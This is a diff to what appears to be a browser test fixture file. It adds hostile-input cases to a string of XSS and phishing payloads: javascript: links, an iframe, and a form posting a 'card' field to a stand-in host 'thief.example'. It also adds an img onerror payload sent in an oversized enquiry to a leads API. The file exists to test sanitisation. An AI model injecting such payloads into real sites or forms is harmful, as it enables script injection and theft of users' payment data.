@@ -9,8 +9,17 @@ export const hostileAnswer = [
   '<a href="javascript:document.title=\'taken\'">here</a> [a](javascript:alert(1)) ![b](data:image/png;base64,AAAA)',
   '<iframe src="https://thief.example/"></iframe><form action="https://thief.example/"><input name="card"></form>',
   'https://thief.example/plain www.thief.example data:text/html,<b>x</b>',
+  'W'.repeat(2_000),
   'be\u202Efore\u2066 hid\u200Bden \u{E0068}\u{E0069}end',
 ].join('\n');
+
+/** Sends an enquiry as long as it may be, in one word, and with markup. Answers the status. */
+export const enquiryWithoutForm = `fetch('/api/v1/leads', {
+  method: 'POST',
+  headers: { 'content-type': 'application/json', 'x-cordon-request': '1', 'idempotency-key': crypto.randomUUID() },
+  body: JSON.stringify({ fullName: 'E'.repeat(199), contact: 'eve@example.com', consentToContact: true, consentWordingVersion: 1,
+    message: '<img src=x onerror="document.title=1"> ' + 'W'.repeat(1900) }),
+}).then((answer) => answer.text().then(() => answer.status))`;
 
 /** Answers every question of the page with these words, as the gateway streams them. */
 export async function answerWith(page: Page, text: string): Promise<void> {
